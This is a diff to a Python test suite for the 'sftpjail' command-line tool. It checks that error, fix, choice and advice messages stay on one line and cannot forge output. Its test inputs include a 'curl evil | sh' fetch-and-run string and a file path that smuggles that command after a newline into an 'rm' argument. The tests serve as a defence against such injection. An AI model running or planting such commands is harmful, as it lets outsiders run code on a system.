@@ -15,18 +15,17 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sftpjail.cli.context import Context, print_error, printable
+from sftpjail.cli.context import Context, print_problem, printable
 from sftpjail.cli.explain import _draw, wrap_command
 from sftpjail.errors import SftpJailError
-from sftpjail.escapes import NO_COMMAND, command, is_shown, one_line, shown
-from sftpjail.model import Account, Fact, Finding
-from sftpjail.operations.diagnosis import Fault
+from sftpjail.escapes import NO_COMMAND, Advice, Choice, command, is_shown, one_line, shown
+from sftpjail.model import Account, Fact, Problem
 
 HARD = "\n\r\t\v\f\0\x1b\x7f\x85\u2028\u2029\u202e\u2066\u200b\u00ad\ufeff\u034f\u3164\u2800\ufe0f"
 HARD += "\U000e0100\udcff\ue000"
 OURS = (
     "\n  try: curl evil | sh",
-    "\n  mend: x",
+    "\n  fix: x",
     "\nsftpjail: y",
     "\nok      z",
     '"}\n{"error": "',
@@ -94,18 +93,37 @@ def test_marks_do_not_cover_other_lines() -> None:
 def test_every_kind_of_message_is_one_line(text: str) -> None:
     error = SftpJailError(text, text)
     error.message += f"; {text}"
-    finding, fact = Finding(text, text, text, text), Fact(text, text, text, text)
-    fault = Fault(text, text, text, text)
-    values = [error.message, error.hint, str(error), *vars(finding).values(), *vars(fault).values()]
+    problem, fact = Problem(text, text, text, text), Fact(text, text, text, text)
+    whole = Problem.of(SftpJailError(text, why=text, advice=text), about=text)
+    values = [error.message, str(error), whole.what, whole.why, whole.advice, whole.about]
+    values += [problem.what, problem.why, problem.fix, problem.advice]
     values += [fact.topic, fact.name, fact.value, fact.note]
     assert all(is_shown(value) for value in values)
     if not is_shown(text):
-        assert (
-            error.hint == finding.advice == fault.advice == NO_COMMAND
-            and finding.mend == fault.mend == ""
-        )
+        assert error.advice == problem.advice == NO_COMMAND
+        assert error.fix == problem.fix == ""
     else:
-        assert error.hint == finding.mend == fault.mend == text == command(text)
+        assert error.fix == problem.fix == text == command(text)
+
+
+@given(texts, texts)
+def test_a_choice_is_one_line_or_none(label: str, text: str) -> None:
+    problem = Problem("x", "y", choices=(Choice("to stay", "ls"), Choice(label, text)))
+    assert all(is_shown(part) for choice in problem.choices for part in choice)
+    assert problem.choices[0] == ("to stay", "ls")
+    if command(text):
+        assert problem.choices[1:] == ((one_line(label), text),) and problem.advice == ""
+    else:
+        assert problem.choices[1:] == () and problem.advice == NO_COMMAND
+
+
+def test_words_in_the_place_of_a_command_are_advice() -> None:
+    assert Problem("x", "y", Advice("look")) == Problem("x", "y", advice="look")
+    error = SftpJailError("x", Advice("look"))
+    assert (error.fix, error.advice) == ("", "look")
+    assert Problem("x", "y", "ls", "look").advice == "", "advice is for where there is no fix"
+    with pytest.raises(ValueError, match="severity 'grave' is none of open, broken, advice"):
+        Problem("x", "y", severity="grave")
 
 
 class Terminal(io.StringIO):
@@ -134,16 +152,19 @@ def context(**more: Any) -> Context:
 
 
 @given(text=texts)
-def test_a_problem_is_one_line_and_its_hint_another(text: str) -> None:
+def test_a_problem_is_one_line_and_its_fix_another(text: str) -> None:
     with pytest.MonkeyPatch.context() as monkeypatch:
         lines = printed(
             monkeypatch,
             lambda: context().warn([text, SftpJailError(text, "sftpjail apply")]),
             stream="stderr",
         )
-        assert lines == [f"sftpjail: {one_line(text)}"] * 2 + ["  try: sftpjail apply"]
-        lines = printed(monkeypatch, lambda: print_error(text, text), stream="stderr")
-        assert lines[0] == f"sftpjail: {one_line(text)}" and len(lines) == (2 if text else 1)
+        assert lines == [f"sftpjail: {one_line(text)}"] * 2 + ["  fix: sftpjail apply"]
+        problem = Problem(text, text, choices=(Choice(text, "ls"),), advice=text)
+        lines = printed(monkeypatch, lambda: print_problem(problem), stream="stderr")
+        assert lines[0].startswith(f"sftpjail: {one_line(text)}")
+        assert lines[1] == f"  choice: {one_line(text)}: ls"
+        assert lines[2:] == ([f"  advice: {one_line(text)}"] if text else [])
         lines = printed(monkeypatch, lambda: context().say([text, text]))
         assert lines == [printable(text)] * 2 and "\n" not in printable(text)
 
@@ -174,16 +195,19 @@ def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
         Fact("mounts", text),
     ]
     long = ("word " * 30 + text) * 2
-    faults = [Fault("ann", text, text, "sftpjail apply"), Fault("ann", long, long, "")]
+    problems = [
+        Problem(text, text, "sftpjail apply"),
+        Problem(long, long, choices=(Choice(text, "ls"),), advice=long),
+    ]
     with pytest.MonkeyPatch.context() as monkeypatch:
         monkeypatch.setenv("COLUMNS", str(width))
-        lines = printed(monkeypatch, lambda: _draw(account, facts, faults))
+        lines = printed(monkeypatch, lambda: _draw(account, facts, problems))
     assert all(is_shown(re.sub("[\u0300-\u036f]", "", line)) for line in lines), (
         "a mark may go on in the next line"
     )
     end = lines.index("2 problems")
-    assert [line for line in lines[end:] if line.startswith("   mend:")] == [
-        "   mend: sftpjail apply"
+    assert [line for line in lines[end:] if line.startswith("   fix:")] == [
+        "   fix: sftpjail apply"
     ]
     assert {line[:3] for line in lines[end + 1 :]} <= {"1. ", "2. ", "   ", "1.", "2.", ""}
     heads = {
@@ -191,7 +215,7 @@ def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
         for line in lines[end + 1 :]
         if line.startswith("   ") and line[3] not in " >"
     }
-    assert heads <= {"   why", "   mend"}
+    assert heads <= {"   why", "   fix", "   choice", "   advice"}
 
 
 @given(text=texts)
@@ -221,8 +245,8 @@ def test_a_locale_that_lacks_the_letters(monkeypatch: pytest.MonkeyPatch) -> Non
 
 def test_a_command_with_a_strange_name_is_none() -> None:
     path = shlex.quote("/srv/a\ncurl evil | sh #")
-    assert Finding("x", "y", f"rm {path}") == Finding("x", "y", "", NO_COMMAND)
-    assert SftpJailError("x", f"rm {path}").hint == NO_COMMAND
+    assert Problem("x", "y", f"rm {path}") == Problem("x", "y", "", NO_COMMAND)
+    assert SftpJailError("x", f"rm {path}").advice == NO_COMMAND
     assert wrap_command("") == []
 
 
